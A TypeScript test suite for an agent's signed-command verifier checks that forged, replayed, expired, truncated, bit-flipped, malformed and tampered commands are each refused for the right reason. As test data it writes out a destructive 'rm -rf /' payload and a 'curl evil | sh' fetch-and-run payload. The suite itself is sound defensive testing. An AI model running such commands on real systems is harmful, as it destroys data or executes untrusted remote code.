/**
 * The agent's check of a command (apps/agent/verify-command.ts) against everything someone who
 * can write to msec.commands or the hand-over channel could send: each refused for its reason,
 * none ever accepted, none ever throwing.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { SigningKey, sha256Hex } from '../../../adapters/signing/ed25519.ts';
import { encodeCommandBody, encodePayload, encodeSignedCommand } from '../../../schemas/agent.ts';
import { clockSkewMs, takenDigest, verifyCommand, type RefusalReason, type Verdict } from '../../../apps/agent/verify-command.ts';
import { agentIp, commandPieces, execPayload, issuedAt, signedCommand, trusting, ttlMs, type VerifyState } from './command-fixtures.ts';

const key = SigningKey.generate();
const state = trusting(key);
const now = issuedAt + 1000;

function check(bytes: Uint8Array, s: VerifyState = state, at = now): Verdict {
  // The check must answer for any input: a throw would be a crash of the agent's loop.
  let verdict: Verdict | undefined;
  assert.doesNotThrow(() => (verdict = verifyCommand(bytes, s, at)));
  return verdict!;
}

function refusedFor(bytes: Uint8Array, reason: RefusalReason, s: VerifyState = state, at = now): Extract<Verdict, { ok: false }> {
  const verdict = check(bytes, s, at);
  assert.equal(verdict.ok, false, `accepted, expected refused for ${reason}`);
  const no = verdict as Extract<Verdict, { ok: false }>;
  assert.equal(no.reason, reason, no.detail);
  return no;
}

describe('verifyCommand: the real thing', () => {
  test('a command signed by the trusted key, for this host, in time, new, with its payload, is accepted', () => {
    const verdict = check(signedCommand(key));
    assert.equal(verdict.ok, true);
    if (verdict.ok) {
      assert.equal(verdict.body.target, agentIp);
      assert.equal(verdict.body.sequence, 1);
      assert.equal(sha256Hex(verdict.payload), verdict.body.payloadSha256);
    }
  });
});

describe('verifyCommand: signatures and keys', () => {
  test('unsigned', () => {
    const { body, payload } = commandPieces(key);
    const no = refusedFor(encodeSignedCommand({ body, signature: new Uint8Array(0), payload }), 'unsigned');
    assert.equal(no.commandId, '01900000-0000-7000-8000-000000000001', 'the claimed id is reported');
  });

  test('re-signed with another Ed25519 key that names itself', () => {
    const mallory = SigningKey.generate();
    refusedFor(signedCommand(key, { signer: mallory, body: { keyId: mallory.keyId } }), 'unknown-key');
  });

  test('re-signed with another key that claims the trusted key id', () => {
    const mallory = SigningKey.generate();
    refusedFor(signedCommand(key, { signer: mallory }), 'bad-signature');
  });

  test('signed by a key the chain retired', () => {
    const old = SigningKey.generate();
    const rotated = trusting(key, { retired: [old.keyId] });
    refusedFor(signedCommand(old), 'retired-key', rotated);
    // the retired key cannot get in by claiming the current id either
    refusedFor(signedCommand(key, { signer: old }), 'bad-signature', rotated);
  });

  test('a signature made for another purpose (report, key statement, agent request) does not pass for a command', () => {
    for (const domain of ['report', 'keySuccession', 'agentRequest'] as const) refusedFor(signedCommand(key, { domain }), 'bad-signature');
  });

  test('a signature of another length, or S + L (malleated), is refused', () => {
    const { body, signature, payload } = commandPieces(key);
    refusedFor(encodeSignedCommand({ body, signature: signature.subarray(0, 63), payload }), 'bad-signature');
    refusedFor(encodeSignedCommand({ body, signature: Buffer.concat([signature, Buffer.from([0])]), payload }), 'bad-signature');
    const order = (1n << 252n) + 27742317777372353535851937790883648493n;
    let s = 0n;
    for (let i = 31; i >= 0; i--) s = (s << 8n) | BigInt(signature[32 + i]!);
    s += order;
    const malleated = Buffer.from(signature);
    for (let i = 0; i < 32; i++, s >>= 8n) malleated[32 + i] = Number(s & 0xffn);
    refusedFor(encodeSignedCommand({ body, signature: malleated, payload }), 'bad-signature');
  });

  test('an all-zero signature and a signature of zeros and the key are refused', () => {
    const { body, payload } = commandPieces(key);
    refusedFor(encodeSignedCommand({ body, signature: new Uint8Array(64), payload }), 'bad-signature');
    refusedFor(encodeSignedCommand({ body, signature: Buffer.concat([key.publicKeyRaw, Buffer.alloc(32)]), payload }), 'bad-signature');
  });
});

describe('verifyCommand: bit flips of a real command', () => {
  const { body, signature, payload } = commandPieces(key);
  const flips = function* (bytes: Uint8Array) {
    for (let i = 0; i < bytes.length; i++) for (let bit = 0; bit < 8; bit++) {
      const copy = Buffer.from(bytes);
      copy[i]! ^= 1 << bit;
      yield copy;
    }
  };

  test('every bit of the body: refused as malformed, unknown key or bad signature', () => {
    const reasons = new Map<string, number>();
    for (const flipped of flips(body)) {
      const verdict = check(encodeSignedCommand({ body: flipped, signature, payload }));
      assert.equal(verdict.ok, false);
      const reason = (verdict as Extract<Verdict, { ok: false }>).reason;
      assert.ok(['malformed', 'unknown-key', 'bad-signature'].includes(reason), reason);
      reasons.set(reason, (reasons.get(reason) ?? 0) + 1);
    }
    assert.ok((reasons.get('bad-signature') ?? 0) > 0);
  });

  test('every bit of the signature: bad signature', () => {
    for (const flipped of flips(signature)) refusedFor(encodeSignedCommand({ body, signature: flipped, payload }), 'bad-signature');
  });

  test('every bit of the payload: digest mismatch', () => {
    for (const flipped of flips(payload)) refusedFor(encodeSignedCommand({ body, signature, payload: flipped }), 'digest-mismatch');
  });

  test('every bit of the whole message: refused, or the same command (the same body, signature and payload)', () => {
    const real = encodeSignedCommand({ body, signature, payload });
    let same = 0;
    for (const flipped of flips(real)) {
      const verdict = check(flipped);
      if (verdict.ok) {
        same++;
        assert.deepEqual(Buffer.from(verdict.payload), Buffer.from(payload));
        assert.deepEqual(encodeCommandBody(verdict.body), body);
      }
    }
    assert.ok(same < 16, `${same} flips decode to the same command`);
  });
});

describe('verifyCommand: truncation', () => {
  test('a real command cut at every length is refused', () => {
    const real = signedCommand(key);
    const reasons = new Map<string, number>();
    for (let n = 0; n < real.length; n++) {
      const verdict = check(real.subarray(0, n));
      assert.equal(verdict.ok, false, `accepted when cut to ${n} of ${real.length} bytes`);
      const reason = (verdict as Extract<Verdict, { ok: false }>).reason;
      reasons.set(reason, (reasons.get(reason) ?? 0) + 1);
    }
    assert.ok(reasons.has('malformed') && reasons.has('digest-mismatch'), JSON.stringify([...reasons]));
  });
});

describe('verifyCommand: time', () => {
  const real = signedCommand(key);
  const expiresAt = issuedAt + ttlMs;

  test('valid from issued-at minus the skew, to expires-at plus the skew, both included', () => {
    assert.equal(check(real, state, issuedAt - clockSkewMs).ok, true);
    assert.equal(check(real, state, expiresAt + clockSkewMs).ok, true);
  });

  test('one millisecond earlier it is not yet valid', () => {
    refusedFor(real, 'not-yet-valid', state, issuedAt - clockSkewMs - 1);
  });

  test('one millisecond later it is expired', () => {
    refusedFor(real, 'expired', state, expiresAt + clockSkewMs + 1);
    refusedFor(real, 'expired', state, expiresAt + 365 * 24 * 3600_000);
  });

  test('a command signed with absurd times is refused without throwing', () => {
    refusedFor(signedCommand(key, { body: { issuedAtMs: 2 ** 62, expiresAtMs: 2 ** 62 + 1 } }), 'not-yet-valid');
    refusedFor(signedCommand(key, { body: { issuedAtMs: -(2 ** 62), expiresAtMs: -(2 ** 62) } }), 'expired');
  });
});

describe('verifyCommand: target, replays, payload', () => {
  test('a command for another host', () => {
    refusedFor(signedCommand(key, { body: { target: '10.0.0.8' } }), 'wrong-target');
    refusedFor(signedCommand(key, { body: { target: '' } }), 'wrong-target');
    refusedFor(signedCommand(key, { body: { target: `${agentIp} ` } }), 'wrong-target');
  });

  test('a replay by sequence: the same, or an older one', () => {
    const real = signedCommand(key, { body: { sequence: 5 } });
    assert.equal(check(real, trusting(key, { lastSequence: 4 })).ok, true);
    refusedFor(real, 'replayed', trusting(key, { lastSequence: 5 }));
    refusedFor(real, 'replayed', trusting(key, { lastSequence: 9 }));
  });

  test('sequence 0 is never valid', () => {
    refusedFor(signedCommand(key, { body: { sequence: 0 } }), 'replayed');
  });

  test('a replay by id, even with a new sequence', () => {
    const id = '01900000-0000-7000-8000-000000000001';
    refusedFor(signedCommand(key, { body: { sequence: 7 } }), 'replayed', trusting(key, { lastSequence: 3, seenIds: [id] }));
  });

  test('given bytes taken before, when they come again expired or signed by a key retired since, then they are a replay', () => {
    const real = signedCommand(key);
    const taken = trusting(key, { lastSequence: 1, seenIds: ['01900000-0000-7000-8000-000000000001'], seenDigests: [takenDigest(real)] });
    refusedFor(real, 'replayed', taken, issuedAt + ttlMs + clockSkewMs + 1);
    refusedFor(real, 'replayed', { ...taken, current: { keyId: 'new0000000000000', publicKey: 'AAAA' }, retired: [key.keyId] });
    // without the digest, the same bytes get the reason of their first failing check (a close of the command)
    refusedFor(real, 'expired', { ...taken, seenDigests: [] }, issuedAt + ttlMs + clockSkewMs + 1);
  });

  test('a payload that is not the one the signature binds', () => {
    const { body, signature } = commandPieces(key);
    const other = encodePayload('exec', { ...execPayload, argv: ['rm', '-rf', '/'] });
    refusedFor(encodeSignedCommand({ body, signature, payload: other }), 'digest-mismatch');
    refusedFor(encodeSignedCommand({ body, signature, payload: new Uint8Array(0) }), 'digest-mismatch');
  });

  test('pieces of two real commands pasted together are refused', () => {
    const a = commandPieces(key, { body: { sequence: 1 } });
    const b = commandPieces(key, { body: { sequence: 2, commandId: '01900000-0000-7000-8000-000000000002' }, payload: { ...execPayload, argv: ['id'] } });
    refusedFor(encodeSignedCommand({ body: a.body, signature: b.signature, payload: a.payload }), 'bad-signature');
    refusedFor(encodeSignedCommand({ body: b.body, signature: a.signature, payload: b.payload }), 'bad-signature');
    refusedFor(encodeSignedCommand({ body: a.body, signature: a.signature, payload: b.payload }), 'digest-mismatch');
  });

  test('a second payload field appended to a real command (protobuf: the last one wins) is refused', () => {
    const real = signedCommand(key);
    const evil = encodePayload('exec', { ...execPayload, argv: ['sh', '-c', 'curl evil | sh'] });
    const extra = Buffer.concat([Buffer.from([0x1a]), varint(evil.length), evil]);
    refusedFor(Buffer.concat([real, extra]), 'digest-mismatch');
  });
});

describe('verifyCommand: garbage and huge input', () => {
  test('garbage is malformed', () => {
    const samples = [
      new Uint8Array(0), Buffer.from([0xff]), Buffer.from('hello world'), Buffer.from([0x0a, 0xff, 0xff, 0xff, 0xff, 0x0f]),
      Buffer.from([0x0f]), Buffer.from([0x0a, 0x05, 1, 2]), Buffer.from('{"body":"x"}'), Buffer.alloc(4096, 0xff),
    ];
    for (const bytes of samples) {
      const verdict = check(bytes);
      assert.equal(verdict.ok, false);
      assert.ok(['malformed', 'unsigned'].includes((verdict as Extract<Verdict, { ok: false }>).reason), Buffer.from(bytes).toString('hex').slice(0, 40));
    }
  });

  test('an empty message is unsigned, not accepted', () => {
    refusedFor(new Uint8Array(0), 'unsigned');
  });

  test('a body that is not a CommandBody is malformed', () => {
    refusedFor(encodeSignedCommand({ body: Buffer.from([0x0f, 0xff]), signature: new Uint8Array(64), payload: new Uint8Array(0) }), 'malformed');
  });

  test('huge fields are refused with bounded details', () => {
    const mallory = SigningKey.generate();
    const huge = 'x'.repeat(1_000_000);
    const no = refusedFor(signedCommand(key, { signer: mallory, body: { keyId: huge, commandId: huge, target: huge } }), 'unknown-key');
    assert.ok(no.detail.length < 200, `detail of ${no.detail.length} characters`);
    assert.ok(no.commandId.length <= 64);
    const wrong = refusedFor(signedCommand(key, { body: { target: huge } }), 'wrong-target');
    assert.ok(wrong.detail.length < 200);
    const big = Buffer.alloc(8 * 1024 * 1024, 7);
    const { body, signature } = commandPieces(key);
    refusedFor(encodeSignedCommand({ body, signature, payload: big }), 'digest-mismatch');
  });

  test('a huge sequence number does not wrap into a valid one', () => {
    const body = encodeCommandBody({ ...commandPieces(key).fields, sequence: Number.MAX_SAFE_INTEGER });
    const bytes = encodeSignedCommand({ body, signature: key.sign('command', body), payload: commandPieces(key).payload });
    assert.equal(check(bytes, trusting(key, { lastSequence: Number.MAX_SAFE_INTEGER })).ok, false);
  });
});

function varint(n: number): Buffer {
  const out: number[] = [];
  while (n > 0x7f) {
    out.push((n & 0x7f) | 0x80);
    n >>>= 7;
  }
  out.push(n);
  return Buffer.from(out);
}
